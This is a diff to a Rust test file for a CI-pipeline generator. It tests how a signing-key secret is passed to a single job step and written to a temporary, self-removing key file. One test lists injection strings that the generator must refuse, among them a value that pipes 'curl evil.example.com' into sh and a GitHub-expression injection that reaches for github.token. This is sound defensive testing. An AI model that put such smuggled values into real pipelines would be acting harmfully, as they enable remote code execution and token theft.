@@ -18,6 +18,9 @@ type Env = BTreeMap<&'static str, String>;
 /// The latency history's database URL the CI secret holds (GitHub passes it as RTBUILD_DB).
 const HISTORY_URL: &str = "postgres://ci:s3cret@db.example.com/rtbuild";
 
+/// Stands for the folder `mktemp -d` makes for the signing key.
+const KEY_DIR: &str = "/tmp/tmp.rtbuild";
+
 /// Stands for `$(…)` (the bundle URL the build job left): any URL the lab can download.
 const SUBSTITUTED: &str = "https://lab.example.com/bundle.tar.gz";
 
@@ -215,6 +218,8 @@ fn job_env(machine: &str, distro: &str) -> Env {
         ("RTBUILD_WORK", "/runner/work/repo/rtbuild-work".to_string()),
         ("KAS_WORK_DIR", "/runner/work/repo/rtbuild-work/kas".to_string()),
         ("RTBUILD_DB", HISTORY_URL.to_string()),
+        // The signing step's own folder (`mktemp -d`).
+        ("key_dir", KEY_DIR.to_string()),
     ])
 }
 
@@ -320,6 +325,7 @@ fn handling(id: &str) -> Option<Handling> {
         "lava_scenario" => reaches(&["--lava-scenario", "idle,stress-isolated"], &["--lava"]),
         "lava_duration" => reaches(&["--lava-duration", "10m"], &["--lava"]),
         "history_db_secret" => reaches(&["--history-db-secret", "RTBUILD_HISTORY_DB"], &["--lava"]),
+        "signing_key_secret" => reaches(&["--signing-key-secret", "RELEASE_SIGNING_KEY"], &[]),
         "qcomflash_header" => {
             reaches(&["--qcomflash-header", "QLIAuthorization=QCOM_LAB_TOKEN"], &["--lava"])
         }
@@ -401,6 +407,7 @@ fn jobs_build_the_plan(args: &CiArgs, text: &str) {
             let commands = parsed_commands(text, machine, distro);
             let mut images = 0;
             let mut histories = 0;
+            let mut bundles = 0;
             let mut locked = false;
             for (argv, cli) in &commands {
                 match cli.as_ref().map(|c| &c.command) {
@@ -410,7 +417,9 @@ fn jobs_build_the_plan(args: &CiArgs, text: &str) {
                         assert_eq!(got, want, "{argv:?}");
                         assert_eq!(image.build.caches.flags(), args.caches.flags(), "{argv:?}");
                         assert_eq!(image.lock, args.lock, "{argv:?}");
-                        assert_eq!(image.post.bundle, args.bundle || args.lava, "{argv:?}");
+                        let bundling =
+                            args.bundle || args.lava || args.signing_key_secret.is_some();
+                        assert_eq!(image.post.bundle, bundling, "{argv:?}");
                     }
                     Some(Command::Lava(lava)) => {
                         assert!(args.lava, "{argv:?}");
@@ -442,11 +451,18 @@ fn jobs_build_the_plan(args: &CiArgs, text: &str) {
                         histories += 1;
                     }
                     Some(Command::Bundle(bundle)) => {
-                        // Packed again after the lock, so the bundle carries it.
-                        assert!(locked && args.lock.is_none(), "{argv:?}");
-                        assert!(args.bundle || args.lava, "{argv:?}");
+                        // Packed again after the lock, so the bundle carries it, and to sign it.
+                        let signs = args.signing_key_secret.is_some();
+                        assert!(signs || (locked && args.lock.is_none()), "{argv:?}");
+                        assert!(locked || args.lock.is_some(), "after the lock: {argv:?}");
+                        assert!(args.bundle || args.lava || signs, "{argv:?}");
                         assert_eq!(bundle.dirs.machine.name.as_deref(), Some(machine.as_str()));
                         assert!(bundle.check.is_none() && bundle.diff.is_empty(), "{argv:?}");
+                        // The flavour `image --bundle` made: LAVA's .tar.gz, packed again.
+                        assert_eq!(bundle.gzip, args.lava, "{argv:?}");
+                        let key = signs.then(|| format!("{KEY_DIR}/signing-key.pem").into());
+                        assert_eq!(bundle.signing_key, key, "{argv:?}");
+                        bundles += 1;
                     }
                     Some(Command::Lock(lock)) => {
                         locked = true;
@@ -468,6 +484,10 @@ fn jobs_build_the_plan(args: &CiArgs, text: &str) {
                 .count();
             let want = if args.history_db_secret.is_some() { lavas } else { 0 };
             assert_eq!(histories, want, "one history add per LAVA job: {commands:?}");
+            // The bundle is packed again after `rtbuild lock`, and to be signed.
+            let repacked = (args.bundle || args.lava) && args.lock.is_none()
+                || args.signing_key_secret.is_some();
+            assert_eq!(bundles, usize::from(repacked), "{commands:?}");
         }
     }
 }
@@ -549,8 +569,14 @@ fn every_rtbuild_command_of_every_pipeline_parses() {
     ];
     for format in ["gitlab", "github"] {
         for from in ["crates", "path:.", "git+https://git.example.com/rtbuild.git#v0.1.0"] {
-            for extra in [&[][..], &["--bundle"], &["--lock", "tests/data/ci/rt.lock.yml"], richest]
-            {
+            for extra in [
+                &[][..],
+                &["--bundle"],
+                &["--lock", "tests/data/ci/rt.lock.yml"],
+                &["--signing-key-secret", "RELEASE_SIGNING_KEY"],
+                &["--signing-key-secret", "KEY", "--lava", "--lock", "tests/data/ci/rt.lock.yml"],
+                richest,
+            ] {
                 let mut all = vec!["--format", format, "--rtbuild-from", from];
                 if !extra.contains(&"--machines") {
                     all.extend(["--machines", "rb3gen2-core-kit"]);
@@ -854,5 +880,107 @@ fn a_workflow_expression_inside_a_quoted_value_is_refused() {
         assert!(text.starts_with(&format!("bad {} `", extra[0])), "{text}");
         assert!(text.contains("GitHub Actions expands"), "{text}");
         assert!(!text.contains('\n'), "one line: {text}");
+    }
+}
+
+/// Issue 38: `ci --signing-key-secret NAME` signs each bundle. The secret reaches one GitHub step
+/// through its `env:` (`${{ secrets.NAME }}`, in the deployment environment `rtbuild-signing`)
+/// and GitLab's script as the masked variable itself (`"$NAME"`); no script holds a workflow
+/// expression or the key, the key file is made in a `mktemp -d` folder under `umask 077` and
+/// removed by the subshell's EXIT trap, and the envelope and public key are kept and summed.
+#[test]
+fn a_signing_key_secret_reaches_one_step_through_the_environment() {
+    for format in ["gitlab", "github"] {
+        let args = ci_args(&argv(&[
+            &["--format", format],
+            &["--signing-key-secret", "RELEASE_SIGNING_KEY"],
+        ]));
+        let text = pipeline_text(&args).expect(format);
+        let yaml: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
+        let (var, script) = match format {
+            "gitlab" => {
+                let script: Vec<String> = yaml["rtbuild-image"]["script"]
+                    .as_sequence()
+                    .unwrap()
+                    .iter()
+                    .map(|l| l.as_str().unwrap().to_string())
+                    .collect();
+                // GitLab hands the job its masked variable: the script reads it, nothing sets it.
+                assert!(yaml["rtbuild-image"].get("variables").is_some());
+                assert!(yaml["rtbuild-image"]["variables"].get("RELEASE_SIGNING_KEY").is_none());
+                ("RELEASE_SIGNING_KEY", script.join("\n"))
+            }
+            _ => {
+                let job = &yaml["jobs"]["image"];
+                assert_eq!(job["environment"], "rtbuild-signing", "{text}");
+                let steps = job["steps"].as_sequence().unwrap();
+                let sign: Vec<&serde_yaml::Value> =
+                    steps.iter().filter(|s| s["name"] == "Bundle and sign").collect();
+                assert_eq!(sign.len(), 1, "{text}");
+                assert_eq!(
+                    sign[0]["env"]["RTBUILD_SIGNING_KEY"], "${{ secrets.RELEASE_SIGNING_KEY }}",
+                    "{text}"
+                );
+                // Only that step has the secret: not the job, not the build step.
+                assert_eq!(text.matches("secrets.RELEASE_SIGNING_KEY").count(), 1, "{text}");
+                assert!(job["env"].get("RTBUILD_SIGNING_KEY").is_none(), "{text}");
+                ("RTBUILD_SIGNING_KEY", sign[0]["run"].as_str().unwrap().to_string())
+            }
+        };
+        assert!(
+            script.contains(&format!(
+                "(key_dir=\"$(mktemp -d)\" && trap 'rm -rf -- \"$key_dir\"' EXIT && (umask 077 && case \"${var}\" in -----BEGIN*) printf '%s\\n' \"${var}\" ;; *) printf '%s' \"${var}\" | base64 -d ;; esac > \"$key_dir/signing-key.pem\") && rtbuild bundle --machine \"$MACHINE\""
+            )),
+            "{script}"
+        );
+        assert!(script.contains(&format!("test -n \"${var}\" || {{ echo \"error: the CI secret RELEASE_SIGNING_KEY (the bundle's signing key) is empty or not set; set it in the CI settings\" >&2; exit 2; }}")), "{script}");
+        assert!(text.contains("*.manifest.json *.intoto.json *.pub.pem > SHA256SUMS"), "{text}");
+        assert!(text.contains("bundle/*.intoto.json"), "{text}");
+        assert!(text.contains("bundle/*.pub.pem"), "{text}");
+        jobs_build_the_plan(&args, &text);
+    }
+}
+
+/// `--signing-key-secret NAME` reaches a workflow expression and a shell: anything but a plain
+/// identifier, a GitHub-reserved name or a variable the jobs set is refused (exit 2, one line)
+/// before a pipeline is written.
+#[test]
+fn a_signing_key_secret_that_is_no_plain_name_is_refused() {
+    for name in [
+        "",
+        "KEY }}${{ github.token",
+        "KEY\" ; curl evil.example.com | sh ; \"",
+        "KEY$(id)",
+        "KEY`id`",
+        "KEY-1",
+        "KEY 1",
+        "KEY\nX",
+        "1KEY",
+        "GITHUB_TOKEN",
+        "DÜ",
+        "PATH",
+        "MACHINE",
+        "key_dir",
+    ] {
+        for format in ["gitlab", "github"] {
+            let args = ci_args(&argv(&[&["--format", format], &["--signing-key-secret", name]]));
+            let err = pipeline_text(&args).expect_err(name);
+            assert_eq!(err.code(), crate::exit::Exit::Usage, "{name:?}: {err}");
+            let text = err.to_string();
+            assert!(!text.contains('\n'), "one line: {text}");
+            assert!(text.starts_with("bad --signing-key-secret `"), "{text}");
+            assert!(text.contains("; pass the name of the secret"), "{text}");
+        }
+    }
+    for name in ["RELEASE_SIGNING_KEY", "RTBUILD_SIGNING_KEY", "_key2"] {
+        let args = ci_args(&argv(&[&["--signing-key-secret", name]]));
+        let text = pipeline_text(&args).expect(name);
+        assert!(text.contains(&format!("test -n \"${name}\" ||")), "{text}");
+        let args = ci_args(&argv(&[&["--format", "github"], &["--signing-key-secret", name]]));
+        let text = pipeline_text(&args).expect(name);
+        assert!(
+            text.contains(&format!("RTBUILD_SIGNING_KEY: ${{{{ secrets.{name} }}}}")),
+            "{text}"
+        );
     }
 }
